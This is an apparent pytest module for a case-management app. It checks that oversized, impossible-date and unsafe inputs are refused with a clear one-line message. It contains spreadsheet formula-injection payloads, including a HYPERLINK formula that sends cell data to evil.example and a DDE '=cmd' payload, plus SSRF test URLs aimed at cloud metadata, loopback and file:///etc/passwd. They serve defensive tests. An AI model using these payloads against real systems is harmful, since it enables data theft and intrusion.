"""Bad input gets a clear one-line refusal naming the field, and nothing half-done (issue 11).

One table of (door, input, field, bad value, expected fragment): YAML files and options of the CLI
(typer's CliRunner, with the service's senders replaced by a tripwire: a refusal must come before
anything is sent), the other input files (policy, channels, calendar override, organization CSV/XLSX),
the web console's forms, the HTTP API's bodies (what the workflow's update validator runs), the
webhook URLs at send time, and the ledgers written (CSV/XLSX cells neutralised, not refused).

The table is rendered as markdown and must equal the block in docs/security.md between
``<!-- bad-input-matrix:begin -->`` and ``<!-- bad-input-matrix:end -->`` (printed on mismatch).
"""

from __future__ import annotations

import csv
import io
import re
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
import yaml
from typer.testing import CliRunner

from domain.actors import Actor, Role
from domain.errors import DomainError
from domain.limits import MAX_NAME, MAX_TEXT
from settings.errors import InputError

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = ROOT / "examples"
DOC = ROOT / "docs" / "security.md"
BEGIN, END = "<!-- bad-input-matrix:begin -->", "<!-- bad-input-matrix:end -->"
ACTOR = Actor(id="sup-zhang", name="张督导", roles=[Role.SUPERVISOR])
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|'/C calc'!A0", "+1+1", "@SUM(A1)", "-2+3")


class Sent(AssertionError):
    """The tripwire: something reached the service's sender (a refusal came too late)."""


@dataclass(frozen=True)
class Row:
    door: str  # cli | file | web form | api | send | ledger
    input: str  # the command or file
    field: str
    bad: str  # the bad value as a person reads it
    expect: str  # a fragment the refusal must contain
    outcome: str = "refused"  # refused | neutralised


@dataclass
class Ctx:
    tmp: Path
    monkeypatch: pytest.MonkeyPatch


# ----------------------------------------------------------------------------- helpers


def example(name: str, **changes: Any) -> dict[str, Any]:
    data: dict[str, Any] = yaml.safe_load((EXAMPLES / name).read_text(encoding="utf-8"))
    for path, value in changes.items():
        target: Any = data
        keys = path.split("__")
        for key in keys[:-1]:
            target = target[int(key)] if key.isdigit() else target[key]
        target[int(keys[-1]) if keys[-1].isdigit() else keys[-1]] = value
    return data


def dump(ctx: Ctx, name: str, data: Any, raw: dict[str, str] | None = None) -> Path:
    """``data`` as YAML; ``raw`` replaces a quoted placeholder with unquoted text (an impossible date
    must reach the YAML loader as a timestamp, not a string)."""
    text = yaml.safe_dump(data, allow_unicode=True, sort_keys=False)
    for placeholder, value in (raw or {}).items():
        text = text.replace(f"'{placeholder}'", value).replace(placeholder, value)
    path = ctx.tmp / name
    path.write_text(text, encoding="utf-8")
    return path


def files_in(path: Path) -> set[Path]:
    return {p for p in path.rglob("*") if p.is_file()}


def cli(ctx: Ctx, *args: str) -> str:
    """Run `pdca …` in-process; a refusal: exit 1, one line on stderr, no traceback, nothing sent."""
    from cli import common
    from cli.main import app

    def tripwire(*_a: Any, **_k: Any) -> Any:
        raise Sent("reached the service's sender")

    def run_then_exit(action: Callable[[], None]) -> None:  # without os._exit: this is the test process
        common.run(action)

    ctx.monkeypatch.setattr(common, "run_then_exit", run_then_exit)
    ctx.monkeypatch.setattr(common, "acting", lambda: ACTOR)
    for module in ("service.cases", "service.projects", "service.campaigns", "service.commands", "service.ratings"):
        for name in ("send", "open_stream"):
            ctx.monkeypatch.setattr(f"{module}.{name}", tripwire, raising=False)
    ctx.monkeypatch.setattr("service.directory.designation_preview", tripwire)
    before = files_in(ctx.tmp)
    result = CliRunner().invoke(app, ["--lang", "en", "--db", f"sqlite:///{ctx.tmp / 'audit.db'}", *args])
    assert not isinstance(result.exception, Sent), args
    assert result.exit_code == 1, (args, result.exit_code, result.output, result.exception)
    assert "Traceback" not in result.output
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1, lines
    assert files_in(ctx.tmp) == before, "a refused command wrote files"
    return lines[0]


def refused(action: Callable[[], Any], *errors: type[BaseException]) -> str:
    with pytest.raises(errors or (InputError,)) as caught:
        action()
    error = caught.value
    return str(getattr(error, "message", None) or getattr(error, "errors", None) or error)


# ----------------------------------------------------------------------------- the doors


def case_open(ctx: Ctx, **changes: Any) -> str:
    raw = changes.pop("_raw", None)
    return cli(ctx, "case", "open", str(dump(ctx, "case.yaml", example("case-V001.yaml", **changes), raw)))


def plan_submit(ctx: Ctx, **changes: Any) -> str:
    raw = changes.pop("_raw", None)
    return cli(ctx, "case", "plan", "submit", "rect-V001-2026", str(dump(ctx, "plan.yaml", example("plan-V001.yaml", **changes), raw)))


def project_apply(ctx: Ctx, **changes: Any) -> str:
    raw = changes.pop("_raw", None)
    return cli(ctx, "project", "apply", str(dump(ctx, "project.yaml", example("project-V001.yaml", **changes), raw)))


def rating_assess(ctx: Ctx, **changes: Any) -> str:
    path = dump(ctx, "assessment.yaml", example("rating-self-assessment.yaml", **changes))
    return cli(ctx, "rating", "assess", "star-V001-2026", "--file", str(path))


def follow_up(ctx: Ctx, problems: list[dict[str, Any]]) -> str:
    path = dump(ctx, "problems.yaml", {"problems": problems})
    return cli(ctx, "case", "review", "rect-V001-2026", "--note", "回头看", "--relapse", "--problems", str(path))


def big_file(ctx: Ctx, name: str) -> Path:
    path = ctx.tmp / name
    with path.open("wb") as handle:
        handle.write(b"# padding\n" * (6 * 1024 * 1024 // 10 + 1))
    return path


def policy_file(ctx: Ctx, text: str) -> str:
    from settings.directory import load_policy

    path = ctx.tmp / "policy.yaml"
    path.write_text(text, encoding="utf-8")
    return refused(lambda: load_policy(path))


def channels_file(ctx: Ctx, spec: dict[str, Any]) -> str:
    from activities.channels import load_channels_config

    ctx.monkeypatch.delenv("PDCA_ALLOW_PRIVATE_URLS", raising=False)
    path = dump(ctx, "channels.yaml", {"channels": {"oa": spec}})
    return refused(lambda: load_channels_config(path))


def calendar_file(ctx: Ctx, text: str) -> str:
    from activities.calendar import CalendarFileError, load_override

    path = ctx.tmp / "calendar.yaml"
    path.write_text(text, encoding="utf-8")
    return refused(lambda: load_override(path), CalendarFileError)


def directory_csv(ctx: Ctx, column: str, value: str) -> str:
    from store.directory_import import ImportFailed, parse_file

    rows = list(csv.reader((EXAMPLES / "orgs.csv").read_text(encoding="utf-8-sig").splitlines()))
    rows[1][rows[0].index(column)] = value
    path = ctx.tmp / "orgs.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows[:3])
    message = refused(lambda: parse_file(path), ImportFailed)
    return message


def directory_xlsx(ctx: Ctx, column: str, value: str) -> str:
    from openpyxl import Workbook

    from store.directory_import import ImportFailed, parse_file

    rows = list(csv.reader((EXAMPLES / "orgs.csv").read_text(encoding="utf-8-sig").splitlines()))
    rows[1][rows[0].index(column)] = value
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows[:3]:
        sheet.append(row)
    path = ctx.tmp / "orgs.xlsx"
    book.save(path)
    return refused(lambda: parse_file(path), ImportFailed)


def directory_big(ctx: Ctx) -> str:
    from store.directory_import import ImportFailed, parse_file

    path = big_file(ctx, "orgs.csv")
    return refused(lambda: parse_file(path), ImportFailed)


def web_form(_ctx: Ctx, action: str, **form: str) -> str:
    from service.errors import Refused
    from web.forms import build

    return refused(lambda: build(action, {k: [v] for k, v in form.items()}, ACTOR, lang="en"), Refused)


def api_opening(ctx: Ctx, opening: dict[str, Any]) -> str:
    """POST /api/streams as the API test world sets it up; the opening never reaches the service."""
    import asyncio

    import httpx

    from api.app import create_app
    from service import commands
    from settings import get_settings
    from store.db import make_engine
    from store.keys import KeyStore
    from store.migrate import upgrade
    from tests.api.test_api import SUPERVISOR, seed_directory

    url = f"sqlite:///{ctx.tmp / 'api.db'}"
    for name, value in {"PDCA_HOME": ctx.tmp, "PDCA_DATABASE_URL": url, "PDCA_AUTHORITY_DIR": ctx.tmp / "authority"}.items():
        ctx.monkeypatch.setenv(name, str(value))
    settings = get_settings()
    KeyStore(settings.authority_path).ensure("ed25519")
    engine = make_engine(url)
    upgrade(engine)
    seed_directory(engine)

    def tripwire(*_a: Any, **_k: Any) -> Any:
        raise Sent("reached the service")

    ctx.monkeypatch.setattr(commands, "open_stream", tripwire)
    from service import signin

    token = signin.issue(settings, SUPERVISOR)

    async def post() -> httpx.Response:
        transport = httpx.ASGITransport(app=create_app(settings), raise_app_exceptions=False)
        async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as http:
            return await http.post("/api/v1/streams", json={"opening": opening}, headers={"Authorization": f"Bearer {token}"})

    answer = asyncio.run(post())
    engine.dispose()
    assert 400 <= answer.status_code < 500, (answer.status_code, answer.text)
    return answer.text


def api_command(_ctx: Ctx, body: dict[str, Any]) -> str:
    """A command body as POST /api/streams/{id}/commands (or `temporal workflow update`) delivers it:
    the update validator's own parsing (workflows/audited.py ``_command_of``) refuses it."""
    from domain.rectification import DECIDER
    from workflows.audited import AuditedWorkflow

    host = SimpleNamespace(decider=DECIDER)
    return refused(lambda: AuditedWorkflow._command_of(host, {**body, "actor": ACTOR.model_dump(mode="json")}, True), DomainError)  # type: ignore[arg-type]


def send_to(ctx: Ctx, url: str, resolves_to: str | None = None) -> str:
    """POST as every webhook and robot channel does; ``resolves_to``: what the host's name resolves to."""
    import socket

    from activities.channels import ChannelError, post_json

    ctx.monkeypatch.delenv("PDCA_ALLOW_PRIVATE_URLS", raising=False)
    if resolves_to is not None:
        ctx.monkeypatch.setattr(socket, "getaddrinfo", lambda *_a, **_k: [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (resolves_to, 80))])
    return refused(lambda: post_json(url, {"x": 1}, 2.0), ChannelError)


def ledger(ctx: Ctx, fmt: str) -> str:
    """Every formula-like text comes out as text (a leading apostrophe), in CSV and in XLSX."""
    from reports.ledgers import export

    rows = [{"case_id": "rect-V001-2026", "org_code": "V001", "org_name": text, "region": text, "year": 2026,
             "problem_id": "P1", "cycle": 1, "category": "x", "category_name": text, "description": text} for text in FORMULAS]
    path = export(ctx.tmp / f"problems.{fmt}", "problems", rows, fmt, "en")  # type: ignore[arg-type]
    if fmt == "csv":
        cells = [c for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))) for c in row[1:]]
    else:
        from openpyxl import load_workbook

        sheet = load_workbook(path).active
        assert sheet is not None
        cells = [str(c.value) for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None]
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    written = [c for c in cells if c.lstrip("'") in FORMULAS]
    assert written and all(c.startswith("'") for c in written), written
    return "'" + FORMULAS[0]


LONG_NOTE = "x" * (MAX_TEXT + 1)
LONG_NAME = "村" * (MAX_NAME + 1)

MATRIX: list[tuple[Row, Callable[[Ctx], str]]] = [
    # the CLI: YAML files
    (Row("cli", "case open <case.yaml>", "year", "2026-02-30 (YAML timestamp)", "not a real date"),
     lambda c: case_open(c, year="@DATE@", _raw={"@DATE@": "2026-02-30"})),
    (Row("cli", "case open <case.yaml>", "org_name", f"{MAX_NAME + 1} characters", f"at most {MAX_NAME} characters"),
     lambda c: case_open(c, org_name=LONG_NAME)),
    (Row("cli", "case open <case.yaml>", "problems", "101 problems", "at most 100 items"),
     lambda c: case_open(c, problems=[{"category": "weak_leadership", "description": "问题"}] * 101)),
    (Row("cli", "case open <case.yaml>", "(file)", "6 MB file", "limited to 5,242,880 bytes"),
     lambda c: cli(c, "case", "open", str(big_file(c, "case.yaml")))),
    (Row("cli", "case plan submit <plan.yaml>", "measures.0.deadline", "2027-02-30 (YAML timestamp)", "not a real date"),
     lambda c: plan_submit(c, measures__0__deadline="@DATE@", _raw={"@DATE@": "2027-02-30"})),
    (Row("cli", "case plan submit <plan.yaml>", "measures.0.deadline", "'2027-02-30' (quoted)", "measures.0.deadline"),
     lambda c: plan_submit(c, measures__0__deadline="2027-02-30")),
    (Row("cli", "case plan submit <plan.yaml>", "measures.0.description", f"{MAX_TEXT + 1} characters", f"at most {MAX_TEXT} characters"),
     lambda c: plan_submit(c, measures__0__description=LONG_NOTE)),
    (Row("cli", "case plan submit <plan.yaml>", "measures", "101 measures", "at most 100 items"),
     lambda c: plan_submit(c, measures=[{**example("plan-V001.yaml")["measures"][0], "id": f"M{i}"} for i in range(101)])),
    (Row("cli", "project apply <project.yaml>", "milestones.0.deadline", "2027-02-30 (YAML timestamp)", "not a real date"),
     lambda c: project_apply(c, milestones__0__deadline="@DATE@", _raw={"@DATE@": "2027-02-30"})),
    (Row("cli", "project apply <project.yaml>", "org_name", f"{MAX_NAME + 1} characters", f"at most {MAX_NAME} characters"),
     lambda c: project_apply(c, org_name=LONG_NAME)),
    (Row("cli", "project apply <project.yaml>", "problem", "5,001 characters", "at most 5000 characters"),
     lambda c: project_apply(c, problem="y" * 5001)),
    (Row("cli", "rating assess --file <assessment.yaml>", "scores.0.points", "-1", "greater than or equal to 0"),
     lambda c: rating_assess(c, scores__0__points=-1)),
    (Row("cli", "rating assess --file <assessment.yaml>", "scores.0.evidence.0", "501 characters", "at most 500 characters"),
     lambda c: rating_assess(c, scores__0__evidence=["档" * 501])),
    (Row("cli", "rating assess --file <assessment.yaml>", "scores.0.files", "a file named by its hash",
         "upload evidence files in the console"),
     lambda c: rating_assess(c, scores__0__files=[{"sha256": "a" * 64, "name": "x.pdf", "type": "application/pdf", "size": 1}])),
    (Row("cli", "rating assess --file <assessment.yaml>", "vetoes", "101 items", "at most 100 items"),
     lambda c: rating_assess(c, vetoes=["discipline"] * 101)),
    (Row("cli", "rating assess --file <assessment.yaml>", "(file)", "6 MB file", "limited to 5,242,880 bytes"),
     lambda c: cli(c, "rating", "assess", "star-V001-2026", "--file", str(big_file(c, "assessment.yaml")))),
    (Row("cli", "case review --relapse --problems <problems.yaml>", "problems.0.description", f"{MAX_TEXT + 1} characters",
         f"at most {MAX_TEXT} characters"),
     lambda c: follow_up(c, [{"category": "weak_leadership", "description": LONG_NOTE}])),
    # the CLI: options
    (Row("cli", "case progress --note", "note", f"{MAX_TEXT + 1} characters", f"at most {MAX_TEXT} characters"),
     lambda c: cli(c, "case", "progress", "rect-V001-2026", "M1", "--note", LONG_NOTE)),
    (Row("cli", "case extend --to", "to", "2027-02-30", "to"),
     lambda c: cli(c, "case", "extend", "rect-V001-2026", "-m", "M1", "--to", "2027-02-30", "--reason", "换届")),
    (Row("cli", "case plan return --comment", "comments", f"{MAX_TEXT + 1} characters", f"at most {MAX_TEXT} characters"),
     lambda c: cli(c, "case", "plan", "return", "rect-V001-2026", "--comment", LONG_NOTE)),
    (Row("cli", "project progress --note", "note", f"{MAX_TEXT + 1} characters", f"at most {MAX_TEXT} characters"),
     lambda c: cli(c, "project", "progress", "proj-secretary-V001-2027", "--note", LONG_NOTE)),
    (Row("cli", "campaign preview --as-of", "--as-of", "2027-02-30", "--as-of"),
     lambda c: cli(c, "campaign", "preview", "--year", "2027", "--as-of", "2027-02-30")),
    (Row("cli", "campaign preview --as-of", "--as-of", "2999-01-01 (future)", "in the future"),
     lambda c: cli(c, "campaign", "preview", "--year", "2027", "--as-of", "2999-01-01")),
    # other input files
    (Row("file", "policy.yaml", "(a date)", "2027-02-30 (YAML timestamp)", "not a real date"),
     lambda c: policy_file(c, "version: p-1\nvalid_from: 2027-02-30\n")),
    (Row("file", "policy.yaml", "(file)", "6 MB file", "limited to 5,242,880 bytes"),
     lambda c: refused(lambda: __import__("settings.directory").directory.load_policy(big_file(c, "policy.yaml")))),
    (Row("file", "channels.yaml", "channels.oa.url", "http://169.254.169.254/latest/meta-data", "cloud metadata address"),
     lambda c: channels_file(c, {"type": "webhook", "url": "http://169.254.169.254/latest/meta-data"})),
    (Row("file", "channels.yaml", "channels.oa.url", "http://[fe80::1]/hook", "link-local"),
     lambda c: channels_file(c, {"type": "webhook", "url": "http://[fe80::1]/hook"})),
    (Row("file", "channels.yaml", "channels.oa.url", "http://127.0.0.1:8080/hook", "loopback"),
     lambda c: channels_file(c, {"type": "webhook", "url": "http://127.0.0.1:8080/hook"})),
    (Row("file", "channels.yaml", "channels.oa.url", "file:///etc/passwd", "only http:// or https://"),
     lambda c: channels_file(c, {"type": "webhook", "url": "file:///etc/passwd"})),
    (Row("file", "calendar.yaml", "years.2027.holidays", "2027-02-30", "2027-02-30"),
     lambda c: calendar_file(c, "years:\n  2027:\n    holidays: [2027-02-30]\n")),
    (Row("file", "orgs.csv", "secretary_vacant_since", "2027-02-30", "secretary_vacant_since"),
     lambda c: directory_csv(c, "书记缺职起始", "2027-02-30")),
    (Row("file", "orgs.xlsx", "secretary_vacant_since", "2027-02-30", "secretary_vacant_since"),
     lambda c: directory_xlsx(c, "书记缺职起始", "2027-02-30")),
    (Row("file", "orgs.csv", "(file)", "6 MB file", "limited to 5,242,880 bytes"), directory_big),
    # the web console's forms
    (Row("web form", "progress", "note", f"{MAX_TEXT + 1} characters", f"{MAX_TEXT}"),
     lambda c: web_form(c, "progress", measure_id="M1", note=LONG_NOTE)),
    (Row("web form", "plan", "m-1-description", f"{MAX_TEXT + 1} characters", f"{MAX_TEXT}"),
     lambda c: web_form(c, "plan", **{"m-1-id": "M1", "m-1-description": LONG_NOTE, "m-1-problems": "P1",
                                      "m-1-responsible": "chen.branch", "m-1-deadline": "2027-03-31"})),
    (Row("web form", "plan", "m-1-deadline", "2027-02-30", "deadline"),
     lambda c: web_form(c, "plan", **{"m-1-id": "M1", "m-1-description": "措施", "m-1-problems": "P1",
                                      "m-1-responsible": "chen.branch", "m-1-deadline": "2027-02-30"})),
    (Row("web form", "extend", "to", "2027-02-30", "new deadline"),
     lambda c: web_form(c, "extend", measure_id="M1", to="2027-02-30", reason="换届", requested_by="chen.branch")),
    (Row("web form", "return_plan", "comments", f"{MAX_TEXT + 1} characters", f"{MAX_TEXT}"),
     lambda c: web_form(c, "return_plan", comments=LONG_NOTE)),
    # the HTTP API
    (Row("api", "POST /api/v1/streams (OpenCase)", "org_name", f"{MAX_NAME + 1} characters", f"at most {MAX_NAME} characters"),
     lambda c: api_opening(c, {**example("case-V001.yaml", org_name=LONG_NAME), "type": "OpenCase"})),
    (Row("api", "POST /api/v1/streams/{id}/commands", "note", "1.5 MB note", f"at most {MAX_TEXT} characters"),
     lambda c: api_command(c, {"type": "ReportProgress", "measure_id": "M1", "note": "整" * 500_000})),
    (Row("api", "POST /api/v1/streams/{id}/commands", "(whole command)", "100 measures of 2,000 CJK characters", "500,000 bytes"),
     lambda c: api_command(c, {"type": "SubmitPlan", "measures": [
         {"id": f"M{i}", "description": "措" * MAX_TEXT, "problems": [f"P{j}" * 20 for j in range(20)], "responsible": "r",
          "deadline": "2027-03-31"} for i in range(100)]})),
    (Row("api", "POST /api/v1/streams/{id}/commands", "to", "2027-02-30", "to"),
     lambda c: api_command(c, {"type": "ExtendDeadline", "measure_id": "M1", "to": "2027-02-30", "reason": "换届"})),
    # webhook URLs at send time (a name resolving to a forbidden address)
    (Row("send", "webhook / robot POST", "url", "http://localhost:9/hook", "loopback"),
     lambda c: send_to(c, "http://localhost:9/hook")),
    (Row("send", "webhook / robot POST", "url", "https://oa.example.test/hook resolving to 169.254.169.254", "resolves to 169.254.169.254"),
     lambda c: send_to(c, "https://oa.example.test/hook", resolves_to="169.254.169.254")),
    (Row("send", "webhook / robot POST", "url", "https://oa.example.test/hook resolving to 10.0.0.8", "resolves to 10.0.0.8"),
     lambda c: send_to(c, "https://oa.example.test/hook", resolves_to="10.0.0.8")),
    (Row("send", "webhook / robot POST", "url", "http://100.100.100.200/latest/meta-data", "cloud metadata address"),
     lambda c: send_to(c, "http://100.100.100.200/latest/meta-data")),
    (Row("send", "webhook / robot POST", "url", "http://[fd00:ec2::254]/", "cloud metadata address"),
     lambda c: send_to(c, "http://[fd00:ec2::254]/")),
    # ledgers written
    (Row("ledger", "report ledger / dashboard download (CSV)", "any text cell", "=HYPERLINK(…), =cmd|…, +1+1, @SUM, -2+3", "'=",
         "neutralised"), lambda c: ledger(c, "csv")),
    (Row("ledger", "report ledger / dashboard download (XLSX)", "any text cell", "=HYPERLINK(…), =cmd|…, +1+1, @SUM, -2+3", "'=",
         "neutralised"), lambda c: ledger(c, "xlsx")),
]


@pytest.fixture
def ctx(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Ctx]:
    monkeypatch.setenv("PDCA_HOME", str(tmp_path / "home"))
    monkeypatch.delenv("PDCA_MAX_INPUT_MB", raising=False)
    work = tmp_path / "work"
    work.mkdir()
    yield Ctx(work, monkeypatch)


@pytest.mark.parametrize(("row", "run"), MATRIX, ids=[f"{r.door}:{r.input}:{r.field}:{r.bad[:20]}" for r, _ in MATRIX])
def test_bad_input_is_refused_clearly(row: Row, run: Callable[[Ctx], str], ctx: Ctx) -> None:
    message = run(ctx)
    assert row.expect in message, (row, message)
    assert "Traceback" not in message
    if row.outcome == "refused" and not row.field.startswith("(") and row.door not in ("send", "web form"):
        assert row.field.split(".")[-1] in message, (row.field, message)  # the web form names it as its label does


def render() -> str:
    by_outcome = Counter(r.outcome for r, _ in MATRIX)
    by_door = Counter(r.door for r, _ in MATRIX)
    lines = [
        f"{len(MATRIX)} bad inputs: " + ", ".join(f"{n} {o}" for o, n in sorted(by_outcome.items())) + ".",
        "",
        "| door | inputs |",
        "|---|---|",
        *(f"| {door} | {n} |" for door, n in by_door.items()),
        "",
        "| door | input | field | bad value | outcome | the message says |",
        "|---|---|---|---|---|---|",
    ]
    for row, _ in MATRIX:
        cells = [row.door, row.input, row.field, row.bad, row.outcome, row.expect]
        lines.append("| " + " | ".join(f"`{c}`" if i in (2, 5) else c.replace("|", "\\|") for i, c in enumerate(cells)) + " |")
    return "\n".join(lines)


def test_the_matrix_in_docs_security_md_is_current() -> None:
    text = DOC.read_text(encoding="utf-8")
    match = re.search(re.escape(BEGIN) + r"\n(.*?)\n" + re.escape(END), text, re.S)
    expected = render()
    if match is None or match.group(1) != expected:
        print(f"\n{BEGIN}\n{expected}\n{END}\n")
    assert match is not None, f"docs/security.md has no {BEGIN} … {END} block"
    assert match.group(1) == expected, "docs/security.md's bad-input matrix is out of date: paste the block printed above"
